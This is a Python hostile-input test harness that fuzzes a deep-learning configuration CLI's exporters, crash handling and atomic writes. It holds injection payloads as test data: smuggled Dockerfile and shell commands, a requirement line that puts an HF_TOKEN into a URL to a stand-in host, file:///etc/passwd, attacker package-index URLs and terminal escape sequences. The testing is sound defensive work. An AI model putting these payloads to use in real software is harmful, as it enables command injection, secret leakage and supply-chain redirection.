"""``python -m benchmarks.hostile [--quick] [--seed N]``: re-run the hostile-input pass.

Prints counts, and exits 1 when any crash, injection or mixed bundle was found:

- **workloads**: hypothesis-generated workload files (hostile strings, NaN, 1e-320,
  YAML 1.1 spellings, deep nesting, wrong types) through ``estimate``, ``plan`` and
  ``export`` of the CLI entry, in process, output captured. A crash is an exception out
  of the CLI, a traceback in its output or an exit code other than 0, 1 or 2. An
  injection is a line of an exported file that starts with the marker.
- **plan files**: a recommendation.json with hostile text in one to three of its string
  fields, through ``export PLAN``. An injection is an exported file with more lines than
  the same plan's bundle without the hostile text, or a line starting with the marker.
- **names**: hostile project names x every exporter (requirements.txt, environment.yml,
  pyproject.toml, Dockerfile, compose.yaml, k8s/, README.md, scripts/ including
  setup_wsl2.ps1): the name's quoted literals (shell, PowerShell, Python, JSON) are taken
  out, then no line may start with the marker and a name without a line break may not
  change any file's line count.
- **kill -9**: ``export --force`` alternating between two plans is killed at a random
  moment; afterwards the folder must hold exactly the old or the new bundle (compared
  with their manifests) plus the user's file, and the next export must leave no
  temporary folder.
- **writer**: a job writing checkpoints into the bundle's ``output/`` through repeated
  ``export --force``: none lost, no write failed, the folder's metadata kept.
- **terminal**: escape sequences (clipboard, title, clear screen, C1) in a workload's and
  a config.json's names through estimate, plan, export and doctor --plan: no control
  character reaches the terminal.
- **numbers**: infinities, NaN and overflowing integers in a config.json and a GGUF
  header: exit 0 or 2 (the field named), never an exception.
- **requirements**: a plan file whose framework name, version or variant is a whole
  requirement line (direct URL, marker, option): never written to requirements.txt.
- **index**: ``kb import`` of a knowledge base naming another package index without
  ``--trust-index``: refused, both addresses named.
- **apply**: ``apply`` killed with SIGKILL while uv installs, then run again: the rerun
  stops the leftover uv and finishes the environment.

Not part of CI (it takes minutes); the tests hold a few examples of each.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

MARK = "HXPWNED"
ROOT = Path(__file__).resolve().parents[1]
PLANS_DIR = ROOT / "tests" / "data" / "plans"
# What a shell, Docker, pip, a YAML or Markdown reader breaks lines on.
BREAKS = re.compile("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
PAYLOADS = [
    f"\nRUN touch /tmp/{MARK}\n#",
    f"\n{MARK}==6.6.6",
    f"\r{MARK}",
    f"\u2028{MARK}",
    f"\x85{MARK}",
    f"'; {MARK}; #",
    f'"; {MARK}; #',
    f"$({MARK})",
    f"`{MARK}`",
    f"Ă; Start-Process {MARK}; #",
    f"‚ {MARK} ‘",
    f"\n--extra-index-url https://{MARK}.example/simple",
    f"\n- {MARK}",
    f"}}}} {{{{ {MARK} }}}}",
    f"{{% {MARK} %}}",
    f"\x00{MARK}",
    f"\t\n\t{MARK}",
]
# 55 names: the pass used as many.
NAMES = [
    *PAYLOADS,
    "データ",
    "€ budget",
    "学習",
    "'",
    '"',
    "$HOME",
    "..",
    "../../etc",
    "\\\\server\\share",
    "a b",
    "-rf",
    "--help",
    "*",
    "#",
    "!",
    "&&",
    "|",
    ";",
    "%PATH%",
    "$env:PATH",
    "@(1)",
    "é" * 60,
    "x" * 200,
    "name\u200b",
    "\u202eevil",
    "CON",
    "NUL",
    "a:b",
    "a\\b",
    "~",
    "{{ 7*7 }}",
    "${IFS}",
    "<script>",
    "[x](javascript:alert(1))",
    "# heading",
    "---",
    "null",
    f"ok\n{MARK}",
]
EXPORT_PLANS = (
    "linux_single_gpu_pytorch",  # requirements, Dockerfile, compose, k8s, README, setup_linux.sh
    "tensorflow_multi_gpu",  # environment.yml
    "linux_multinode_pytorch",  # pyproject.toml, TrainJob
    "wsl2_pytorch",  # setup_wsl2.ps1, setup_in_wsl.sh
    "macos_mps",  # setup_macos.sh
    "vllm_service",  # serve.sh, Deployment, Service
)


def _lines(text: str) -> int:
    return len(BREAKS.findall(text))


def _marker_lines(text: str, name: str | None = None) -> int:
    """Lines starting with the marker once ``name``'s quoted literals (a shell, PowerShell,
    Python or JSON string may span lines and stays one value) are taken out."""
    if name is not None:
        text = _unquoted(text, name)
    return sum(1 for line in BREAKS.split(text) if line.lstrip(" \t'\"-").startswith(MARK))


def _unquoted(text: str, name: str) -> str:
    from dlconfig.export.quoting import ps_quote, py_literal, sh_quote

    forms = {sh_quote(name), ps_quote(name), py_literal(name), json.dumps(name)}
    for form in sorted(forms, key=len, reverse=True):
        text = text.replace(form, "'QUOTED'")
    return text


@contextlib.contextmanager
def _captured() -> Iterator[tuple[io.StringIO, io.StringIO]]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        yield out, err


def run_cli_out(argv: list[str]) -> tuple[int | None, str, str]:
    """(exit code, stdout, stderr) of the CLI entry; None when an exception escaped it."""
    from dlconfig.cli import main

    with _captured() as (out, err):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 2
        except Exception as exc:  # noqa: BLE001 - counting crashes is the point
            return None, out.getvalue(), f"{type(exc).__name__}: {exc}"
    return code, out.getvalue(), err.getvalue()


def run_cli(argv: list[str]) -> tuple[int | None, str]:
    """(exit code, stderr) of the CLI entry; None when an exception escaped it."""
    code, _out, err = run_cli_out(argv)
    return code, err


def _text_files(folder: Path) -> dict[str, str]:
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.suffix != ".pdf":
            # bytes decoded as they are: read_text would turn a lone CR into a line break
            out[path.relative_to(folder).as_posix()] = path.read_bytes().decode("utf-8", "replace")
    return out


class Counts(Counter[str]):
    def line(self, label: str, *keys: str) -> str:
        return f"{label:<13}" + "  ".join(f"{k}={self[k]}" for k in keys)


# --- workloads ------------------------------------------------------------------------


def _workload_strategy() -> Any:
    from hypothesis import strategies as st

    hostile = st.sampled_from(NAMES) | st.text(max_size=20)
    name = st.sampled_from(NAMES).map(lambda n: {"name": n})
    number = st.sampled_from(
        [0, 1, -3, 8, 10**12, 1e-320, 1e308, float("nan"), float("inf"), 0.5, 7.0]
    )
    raw = st.sampled_from(["1:30", "010", "0x1F", "yes", "on", "~", ".nan", "-.inf", "1e3"])
    value = st.one_of(hostile, number, st.booleans(), st.none(), st.lists(hostile, max_size=3))
    keys = st.sampled_from(
        [
            "name", "task", "mode", "model", "precision", "optimizer", "batch_size",
            "seq_len", "image_size", "gradient_checkpointing", "sharding", "gpus",
            "dataset_gb", "framework", "target", "location", "compliance", "mfu",
            "tokens_b", "index_url", "extra_index_urls",
        ]
    )  # fmt: skip
    valid = st.fixed_dictionaries(
        {},
        optional={
            "mode": st.sampled_from(["train", "finetune", "lora", "qlora", "inference"]),
            "precision": st.sampled_from(["fp32", "fp16", "bf16", "fp8", "int8", "int4"]),
            "model": st.sampled_from([{"preset": "llama-3.1-8b"}, {"preset": "resnet50"}]),
            "batch_size": st.integers(1, 64),
        },
    )
    return st.tuples(
        valid,
        st.one_of(st.just({}), name, st.dictionaries(keys, value, max_size=4)),
        st.one_of(st.just({}), st.dictionaries(keys, raw, max_size=2)),
        st.sampled_from(["yaml", "yaml", "json", "json", "deep", "nul"]),
    )


def _workload_text(valid: dict, hostile: dict, raw: dict, form: str) -> str:  # type: ignore[type-arg]
    import yaml

    data = {"name": f"w\n{MARK}", **valid, **hostile}
    if form == "json":
        return json.dumps(data)
    if form == "deep":
        return "name: x\ndataset_gb: " + "[" * 500 + "]" * 500 + "\n"
    text = yaml.safe_dump(data, allow_unicode=True)
    text += "".join(f"{k}: {v}\n" for k, v in raw.items() if k not in data)
    return text + ("nul: \x00\n" if form == "nul" else "")


def workloads(examples: int, work: Path, counts: Counts) -> None:
    from hypothesis import HealthCheck, given, settings

    path = work / "workload.yaml"
    out = work / "wl-out"

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(_workload_strategy())
    def one(case: tuple[dict, dict, dict, str]) -> None:  # type: ignore[type-arg]
        text = _workload_text(*case)
        path.write_text(text, encoding="utf-8")
        name = {**case[0], **case[1]}.get("name", f"w\n{MARK}")
        counts["inputs"] += 1
        for argv in (
            ["estimate", str(path)],
            ["plan", str(path), "--no-probe"],
            ["export", str(path), "--out", str(out), "--no-pdf", "--force"],
        ):
            counts["runs"] += 1
            code, err = run_cli(argv)
            if code is None or code not in (0, 1, 2) or "Traceback" in err:
                counts["crashes"] += 1
                print(f"  crash: {argv[0]} {case!r}: {code} {err[-300:]}")
            counts[f"exit_{code}"] += 1
        if out.is_dir():
            for rel, text in _text_files(out).items():
                if _marker_lines(text, name if isinstance(name, str) else None):
                    counts["injections"] += 1
                    print(f"  injection in {rel}: {case!r}")
            shutil.rmtree(out)

    one()


# --- plan files -----------------------------------------------------------------------


def string_paths(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Key paths of every string in JSON-like ``data`` (keys and list indexes)."""
    if isinstance(data, str):
        return [path]
    if isinstance(data, dict):
        return [p for k, v in data.items() for p in string_paths(v, (*path, k))]
    if isinstance(data, list):
        return [p for i, v in enumerate(data) for p in string_paths(v, (*path, i))]
    return []


def _set(data: Any, path: tuple[Any, ...], value: str) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


def _export_dir(plan_file: Path, out: Path) -> tuple[int | None, str, dict[str, str]]:
    code, err = run_cli(["export", str(plan_file), "--out", str(out), "--no-pdf", "--force"])
    files = _text_files(out) if out.is_dir() else {}
    shutil.rmtree(out, ignore_errors=True)
    return code, err, files


def plan_files(examples: int, work: Path, counts: Counts, rng: random.Random) -> None:
    baselines: dict[str, dict[str, int]] = {}
    originals: dict[str, Any] = {}
    for name in EXPORT_PLANS:
        originals[name] = json.loads((PLANS_DIR / f"{name}.json").read_text(encoding="utf-8"))
        code, err, files = _export_dir(PLANS_DIR / f"{name}.json", work / "base")
        assert code == 0, err
        baselines[name] = {rel: _lines(text) for rel, text in files.items()}
    plan_file = work / "recommendation.json"
    for _ in range(examples):
        name = rng.choice(EXPORT_PLANS)
        data = json.loads(json.dumps(originals[name]))
        paths = [p for p in string_paths(data) if p != ("workload", "name")]
        for path in rng.sample(paths, rng.randint(1, 3)):
            _set(data, path, rng.choice(["", "1.0", "x"]) + rng.choice(NAMES))
        plan_file.write_text(json.dumps(data), encoding="utf-8")
        counts["inputs"] += 1
        code, err, files = _export_dir(plan_file, work / "plan-out")
        if code is None or code not in (0, 1, 2) or "Traceback" in err:
            counts["crashes"] += 1
            print(f"  crash: export {name}: {code} {err[-300:]}")
        counts[f"exit_{code}"] += 1
        for rel, text in files.items():
            grew = rel in baselines[name] and _lines(text) > baselines[name][rel]
            if grew or _marker_lines(text):
                counts["injections"] += 1
                print(f"  injection in {rel} of {name}: exit {code}")


# --- names x exporters ----------------------------------------------------------------


def names(work: Path, counts: Counts) -> None:
    from dlconfig.export.bundle import export_bundle
    from dlconfig.export.errors import ExportError
    from dlconfig.models.plan import Plan
    from dlconfig.services import open_kb

    kb = open_kb()
    seen: set[str] = set()
    for plan_name in EXPORT_PLANS:
        plan = Plan.model_validate_json((PLANS_DIR / f"{plan_name}.json").read_text("utf-8"))

        def render(name: str, plan: Plan = plan) -> dict[str, str] | None:
            workload = plan.workload.model_copy(update={"name": name})
            out = work / "name-out"
            try:
                export_bundle(
                    plan.model_copy(update={"workload": workload}),
                    out,
                    kb=kb,
                    force=True,
                    write_pdf=lambda *_: b"%PDF-1.4\n",
                )
            except ExportError:
                return None
            files = _text_files(out)
            shutil.rmtree(out)
            return files

        base = render("x")
        assert base is not None
        for name in NAMES:
            counts["runs"] += 1
            files = render(name)
            if files is None:
                counts["refused"] += 1
                continue
            for rel, written in files.items():
                seen.add(rel)
                text = _unquoted(written, name)
                has_break = bool(BREAKS.search(name))
                grew = not has_break and _lines(text) != _lines(base.get(rel, text))
                if _marker_lines(text) or grew:
                    counts["injections"] += 1
                    print(f"  injection in {rel} of {plan_name}: {name!r}")
                if rel.endswith(".ps1") and not text.isascii():
                    counts["non_ascii_ps1"] += 1
    counts["exporters"] = len(seen)
    print("  files checked: " + ", ".join(sorted(seen)))
    counts["inputs"] = len(NAMES)


# --- kill -9 during export --force ----------------------------------------------------

# The bundles are rendered before "ready", so the kill lands in the writing and swapping,
# the part that must be atomic, and not in template rendering.
_CHILD = """
import sys
from pathlib import Path
from dlconfig.export.bundle import render_files
from dlconfig.export.replace import write_bundle
from dlconfig.models.plan import Plan
from dlconfig.services import open_kb
kb = open_kb()
bundles = []
for name in sys.argv[2:]:
    files = render_files(Plan.model_validate_json(Path(name).read_text(encoding="utf-8")), kb)
    files["report.pdf"] = b"%PDF-1.4\\n"
    bundles.append({k: v.encode() if isinstance(v, str) else v for k, v in files.items()})
print("ready", flush=True)
i = 0
while True:
    write_bundle(Path(sys.argv[1]), bundles[i % 2])
    i += 1
"""


def kill_during_force(out: Path, plans: list[Path], delay_s: float) -> None:
    """Start exports alternating between two plans into ``out`` and kill -9 the process
    ``delay_s`` seconds after it is ready."""
    child = subprocess.Popen(  # our own interpreter and code
        [sys.executable, "-c", _CHILD, str(out), *map(str, plans)],
        stdout=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert child.stdout is not None
    assert child.stdout.readline().strip() == b"ready"
    time.sleep(delay_s)
    child.send_signal(signal.SIGKILL)
    child.wait()
    child.stdout.close()


def bundle_state(out: Path, expected: dict[str, str], user_files: dict[str, str]) -> str:
    """ "old"/"new" (the key of ``expected``, manifest text), or "mixed" when the folder
    is anything else than exactly one bundle plus the user's files."""
    from dlconfig.export import replace

    manifest_path = out / replace.MANIFEST
    if replace.bundle_problems(out) or not manifest_path.is_file():
        return "mixed"
    manifest = manifest_path.read_text(encoding="utf-8")
    which = next((k for k, v in expected.items() if v == manifest), None)
    listed = set(json.loads(manifest)["files"])
    present = {p.relative_to(out).as_posix() for p in out.rglob("*") if not p.is_dir()}
    if which is None or present != listed | set(user_files) | {replace.MANIFEST}:
        return "mixed"
    if any((out / rel).read_text() != text for rel, text in user_files.items()):
        return "mixed"
    return which


def kill_loop(iterations: int, work: Path, counts: Counts, rng: random.Random) -> None:
    from dlconfig.export.bundle import export_bundle
    from dlconfig.models.plan import Plan
    from dlconfig.services import open_kb

    kb = open_kb()
    pair = {"old": "cpu_only_laptop", "new": "vllm_service"}
    expected = {}

    def export(name: str, out: Path) -> None:
        plan = Plan.model_validate_json((PLANS_DIR / f"{name}.json").read_text("utf-8"))
        export_bundle(plan, out, kb=kb, force=True, write_pdf=lambda *_: b"%PDF-1.4\n")

    for key, name in pair.items():
        export(name, work / "expected" / key)
        expected[key] = (work / "expected" / key / ".dlconfig-bundle.json").read_text()
    folder = work / "kill"
    out = folder / "out"
    export(pair["old"], out)
    user = {"notes.txt": "mine\n"}
    (out / "notes.txt").write_text(user["notes.txt"])
    plans = [PLANS_DIR / f"{pair['new']}.json", PLANS_DIR / f"{pair['old']}.json"]
    for _ in range(iterations):
        kill_during_force(out, plans, rng.uniform(0.0, 0.5))
        counts["kills"] += 1
        from dlconfig.export import replace

        if os.path.lexists(out / replace.MARKER):  # killed while moving in: finished next
            counts["interrupted"] += 1
            replace.finish_interrupted(out)
        state = bundle_state(out, expected, user)
        counts[state] += 1
        leftovers = [p for p in folder.iterdir() if p.name != "out"]
        counts["with_leftovers"] += bool(leftovers)
    export(pair["new"], out)
    counts["leftovers_after_next_export"] = len([p for p in folder.iterdir() if p.name != "out"])
    counts["mixed_after_next_export"] = bundle_state(out, expected, user) != "new"


def writer_during_force(
    rounds: int, work: Path, counts: Counts, checkpoints: int = 300
) -> tuple[int, int]:
    """A job writes ``checkpoints`` files into the bundle's ``output/`` (as the README says
    to run it) while ``export --force`` replaces the bundle ``rounds`` times; counts the
    checkpoints lost, the writes that failed and the kept folders whose inode, mode or
    extended attributes changed. Returns (lost, failed)."""
    import threading

    from dlconfig.export.bundle import export_bundle
    from dlconfig.models.plan import Plan
    from dlconfig.services import open_kb

    kb = open_kb()
    plans = [
        Plan.model_validate_json((PLANS_DIR / f"{n}.json").read_text("utf-8"))
        for n in ("cpu_only_laptop", "vllm_service")
    ]
    out = work / "writer" / "out"

    def export(i: int) -> None:
        export_bundle(plans[i % 2], out, kb=kb, force=True, write_pdf=lambda *_: b"%PDF-1.4\n")

    export(1)
    output = out / "output"
    output.mkdir()
    output.chmod(0o700)
    has_xattr = hasattr(os, "setxattr")
    if has_xattr:
        try:
            os.setxattr(output, "user.dlconfig-test", b"kept")
        except OSError:
            has_xattr = False
    before = output.stat()
    failed: list[str] = []
    done = threading.Event()

    def job() -> None:
        for n in range(checkpoints):
            try:
                (output / f"checkpoint-{n}.pt").write_bytes(b"w" * 4096)
            except OSError as exc:
                failed.append(str(exc))
            time.sleep(0.0005)
        done.set()

    thread = threading.Thread(target=job)
    thread.start()
    for i in range(rounds):
        export(i)
        counts["exports"] += 1
    thread.join()
    present = {p.name for p in output.iterdir()} if output.is_dir() else set()
    lost = sum(f"checkpoint-{n}.pt" not in present for n in range(checkpoints))
    counts["checkpoints"] += checkpoints
    counts["lost_checkpoints"] += lost
    counts["failed_writes"] += len(failed)
    after = output.stat() if output.is_dir() else None
    changed = after is None or (after.st_ino, after.st_mode, after.st_uid) != (
        before.st_ino,
        before.st_mode,
        before.st_uid,
    )
    if has_xattr and not changed:
        try:
            changed = os.getxattr(output, "user.dlconfig-test") != b"kept"
        except OSError:
            changed = True
    counts["metadata_changed"] += changed
    return lost, len(failed)


# --- terminal, numbers, requirement lines, package index, apply after kill -9 ------------

ESCAPES = [
    "\x1b]52;c;ZXZpbA==\x07",  # write the clipboard
    "\x1b]0;pwned\x07",  # window title
    "\x1b[2J\x1b[H",  # clear the screen
    "\x9b31m",  # CSI as one C1 character
    "\r\x1b[K",  # overwrite the line
    "\x1bP+q544e\x1b\\",  # DCS request
    "\x07\x08\x7f",
]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _config(name: str, hidden: Any = 256) -> str:
    fields = {"_name_or_path": name, "model_type": "llama", "num_hidden_layers": 2}
    fields |= {"num_attention_heads": 4, "intermediate_size": 512, "vocab_size": 1000}
    text = json.dumps(fields)
    return text[:-1] + f', "hidden_size": {hidden}}}'


def terminal(work: Path, counts: Counts, rng: random.Random) -> None:
    """Escape sequences in a workload's name and a config.json's model name, through
    estimate, plan and doctor --plan: no control character may reach the terminal."""
    folder = work / "terminal"
    folder.mkdir()
    for i in range(len(ESCAPES) * 3):
        hostile = "n" + "".join(rng.sample(ESCAPES, rng.randint(1, 3))) + MARK
        (folder / "config.json").write_text(_config(hostile), encoding="utf-8")
        workload = folder / "w.yaml"
        data = {"name": hostile, "task": "llm", "mode": "lora", "model": {"config": "config.json"}}
        workload.write_text(json.dumps(data), encoding="utf-8")
        bundle = folder / f"b{i}"
        runs = [["estimate", str(workload)], ["plan", str(workload), "--no-probe"]]
        runs += [["export", str(workload), "--out", str(bundle), "--no-pdf"]]
        runs += [["doctor", "--no-torch", "--plan", str(bundle / "recommendation.json")]]
        counts["inputs"] += 1
        for argv in runs:
            code, out, err = run_cli_out(argv)
            counts["runs"] += 1
            if code is None or code not in (0, 1, 2) or "Traceback" in err:
                counts["crashes"] += 1
                print(f"  crash: {argv[0]}: {code} {err[-300:]}")
            if CONTROL.search(out) or CONTROL.search(err.replace("\n", "")):
                counts["escapes"] += 1
                print(f"  escape reached the terminal: {argv[0]}")


NUMBERS = ["1e999", "-1e999", "NaN", "Infinity", "-Infinity", "1e308", "1" + "0" * 400, "-0"]


def numbers(work: Path, counts: Counts) -> None:
    """Non-finite and overflowing numbers in a config.json and a GGUF header: an input
    error naming the field (exit 2) or a plan, never an exception (exit 1) or a traceback."""
    import struct

    folder = work / "numbers"
    folder.mkdir()
    workload = folder / "w.yaml"
    workload.write_text("task: llm\nmode: lora\nmodel: {config: config.json}\n", "utf-8")
    for number in NUMBERS:
        (folder / "config.json").write_text(_config("x", number), encoding="utf-8")
        for argv in (["estimate", str(workload)], ["plan", str(workload), "--no-probe"]):
            counts["inputs"] += 1
            code, _out, err = run_cli_out(argv)
            counts[f"exit_{code}"] += 1
            if code not in (0, 2) or "Traceback" in err:
                counts["crashes"] += 1
                print(f"  {argv[0]} hidden_size={number[:12]}: exit {code} {err[-200:]}")
    for value in (float("inf"), float("nan"), 3.4e38):
        key = b"llama.embedding_length"
        arch = b"general.architecture"
        raw = b"GGUF" + struct.pack("<IQQ", 3, 0, 2)
        raw += struct.pack("<Q", len(arch)) + arch + struct.pack("<IQ", 8, 5) + b"llama"
        raw += struct.pack("<Q", len(key)) + key + struct.pack("<If", 6, value)
        gguf = folder / "m.gguf"
        gguf.write_bytes(raw)
        counts["inputs"] += 1
        code, _out, err = run_cli_out(["estimate", "--model-config", str(gguf)])
        counts[f"exit_{code}"] += 1
        if code != 2 or "Traceback" in err:
            counts["crashes"] += 1
            print(f"  estimate GGUF embedding_length={value}: exit {code} {err[-200:]}")


REQUIREMENT_LINES = [
    "torch @ https://host.example/${HF_TOKEN}/torch.whl",
    "torch @ file:///etc/passwd",
    "torch; sys_platform == 'nonexistent'",
    "torch==2.9.1 --index-url https://evil.example/simple",
    "torch>=0",
    f"{MARK}==1.0",
]


def requirements(work: Path, counts: Counts) -> None:
    """A plan file whose framework name or version is a whole requirement line (a direct
    URL, a marker, an option): refused, or written as name==version from the project's
    own index; the hostile text never reaches requirements.txt."""
    original = json.loads((PLANS_DIR / "linux_single_gpu_pytorch.json").read_text("utf-8"))
    plan_file = work / "req-plan.json"
    for line in REQUIREMENT_LINES:
        for field in ("name", "version", "variant"):
            data = json.loads(json.dumps(original))
            data["stack"]["framework"][field] = line
            plan_file.write_text(json.dumps(data), encoding="utf-8")
            counts["inputs"] += 1
            code, err, files = _export_dir(plan_file, work / "req-out")
            counts[f"exit_{code}"] += 1
            if code is None or "Traceback" in err:
                counts["crashes"] += 1
            text = files.get("requirements.txt", "")
            if code == 0 and any(
                bad in text for bad in ("@", ";", "--index-url https://evil", MARK)
            ):
                counts["passed_through"] += 1
                print(f"  {field}={line!r} reached requirements.txt")


def index_import(work: Path, counts: Counts) -> None:
    """A knowledge base naming another package index: refused without --trust-index."""
    from tests.kb_copies import copy_packaged_kb

    source = copy_packaged_kb(work / "kb-moved")
    path = source / "pytorch.yaml"
    text = path.read_text(encoding="utf-8")
    old = next(ln for ln in text.splitlines() if ln.startswith("index_base_url:"))
    path.write_text(text.replace(old, 'index_base_url: "https://evil.example/whl"'), "utf-8")
    counts["inputs"] += 1
    code, _out, err = run_cli_out(["kb", "import", str(source)])
    counts[f"exit_{code}"] += 1
    if code == 0:
        counts["index_moved"] += 1
        print("  kb import moved the package index without --trust-index")
    elif "evil.example" not in err:
        counts["unnamed"] += 1
    run_cli_out(["kb", "reset"])


def apply_after_kill(iterations: int, work: Path, counts: Counts, rng: random.Random) -> None:
    """apply killed with SIGKILL while its uv installs, then applied again: the rerun
    must take the half-made environment as its own, stop the leftover and finish."""
    import psutil

    from dlconfig.apply.environment import apply_bundle
    from tests.apply.bundles import write_bundle

    for i in range(iterations):
        folder = work / f"apply-{i}"
        folder.mkdir()
        bundle = write_bundle(folder / "bundle")
        started = folder / "installing"
        slow = folder / "slow-uv"
        slow.write_text(
            '#!/bin/sh\ncase "$1" in\n  venv) mkdir -p "$4/bin"; exit 0 ;;\n'
            f'  pip) touch "{started}"; sleep 120 ;;\nesac\n',
            encoding="utf-8",
        )
        slow.chmod(0o755)
        code = (
            "import sys; from pathlib import Path;"
            "from dlconfig.apply.environment import apply_bundle;"
            "apply_bundle(Path(sys.argv[1]), uv=sys.argv[2])"
        )
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        child = subprocess.Popen([sys.executable, "-c", code, str(bundle), str(slow)], env=env)
        deadline = time.monotonic() + 60
        while not started.exists() and time.monotonic() < deadline and child.poll() is None:
            time.sleep(0.02)
        time.sleep(rng.random() * 0.3)
        child.kill()
        child.wait()
        counts["kills"] += 1
        with _patched_env_for_offline_uv(folder) as links:
            try:
                result = apply_bundle(bundle, find_links=links)
                counts["resumed" if result.is_ok else "failed"] += 1
            except Exception as exc:  # noqa: BLE001 - counting failures is the point
                counts["not_resumed"] += 1
                print(f"  rerun after kill -9: {type(exc).__name__}: {exc}")
        env_dir = str(bundle / ".venv")
        left = [
            p for p in psutil.process_iter(["cmdline"])
            if any(env_dir in part for part in p.info.get("cmdline") or [])
        ]  # fmt: skip
        counts["leftover_processes"] += len(left)
        for proc in left:
            with contextlib.suppress(psutil.Error):
                proc.kill()


@contextlib.contextmanager
def _patched_env_for_offline_uv(folder: Path) -> Iterator[Path]:
    """The tests' offline uv (a generated wheel in a find-links folder, its own cache)."""
    import pytest

    from tests.apply.bundles import use_offline_uv

    with pytest.MonkeyPatch.context() as patch:
        yield use_offline_uv(folder, patch)


BAD = (
    "lost_checkpoints",
    "failed_writes",
    "metadata_changed",
    "crashes",
    "injections",
    "mixed",
    "non_ascii_ps1",
    "leftovers_after_next_export",
    "mixed_after_next_export",
    "escapes",
    "passed_through",
    "index_moved",
    "not_resumed",
    "leftover_processes",
)


FAMILIES = (
    "workloads", "plans", "names", "kill", "writer",
    "terminal", "numbers", "requirements", "index", "apply",
)  # fmt: skip


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.hostile", description=__doc__)
    parser.add_argument("--quick", action="store_true", help="a tenth of the runs")
    parser.add_argument("--seed", type=int, default=18)
    parser.add_argument(
        "--only",
        help="comma-separated: workloads, plans, names, kill, writer, terminal, numbers,"
        " requirements, index, apply",
    )
    args = parser.parse_args(argv)
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    scale = 10 if args.quick else 1
    only = set(args.only.split(",")) if args.only else set(FAMILIES)
    rng = random.Random(args.seed)
    results: list[str] = []
    bad = 0
    with tempfile.TemporaryDirectory(prefix="dlconfig-hostile-") as tmp:
        work = Path(tmp)
        os.environ["DLCONFIG_CONFIG_DIR"] = str(work / "config")  # no real settings touched
        os.environ["DLCONFIG_DATA_DIR"] = str(work / "data")
        os.environ["DLCONFIG_CACHE_DIR"] = str(work / "cache")
        steps: list[tuple[str, Callable[[Counts], None], tuple[str, ...]]] = [
            ("workloads", lambda c: workloads(600 // scale, work, c),
             ("inputs", "runs", "crashes", "injections", "exit_0", "exit_1", "exit_2")),
            ("plans", lambda c: plan_files(600 // scale, work, c, rng),
             ("inputs", "crashes", "injections", "exit_0", "exit_1", "exit_2")),
            ("names", lambda c: names(work, c),
             ("inputs", "exporters", "runs", "refused", "injections", "non_ascii_ps1")),
            ("kill", lambda c: kill_loop(60 // scale, work, c, rng),
             ("kills", "old", "new", "interrupted", "mixed", "with_leftovers",
              "leftovers_after_next_export", "mixed_after_next_export")),
            ("writer", lambda c: writer_during_force(max(3, 30 // scale), work, c),
             ("exports", "checkpoints", "lost_checkpoints", "failed_writes",
              "metadata_changed")),
            ("terminal", lambda c: terminal(work, c, rng),
             ("inputs", "runs", "crashes", "escapes")),
            ("numbers", lambda c: numbers(work, c),
             ("inputs", "crashes", "exit_0", "exit_1", "exit_2")),
            ("requirements", lambda c: requirements(work, c),
             ("inputs", "crashes", "passed_through", "exit_0", "exit_2")),
            ("index", lambda c: index_import(work, c),
             ("inputs", "index_moved", "unnamed", "exit_2")),
            ("apply", lambda c: apply_after_kill(max(2, 10 // scale), work, c, rng),
             ("kills", "resumed", "failed", "not_resumed", "leftover_processes")),
        ]  # fmt: skip
        for label, step, keys in steps:
            if label not in only:
                continue
            counts = Counts()
            started = time.perf_counter()
            step(counts)
            bad += sum(counts[k] for k in BAD)
            results.append(counts.line(label, *keys) + f"  ({time.perf_counter() - started:.0f} s)")
            print(results[-1], flush=True)
    print("\n".join(["", "hostile-input pass:", *results]))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
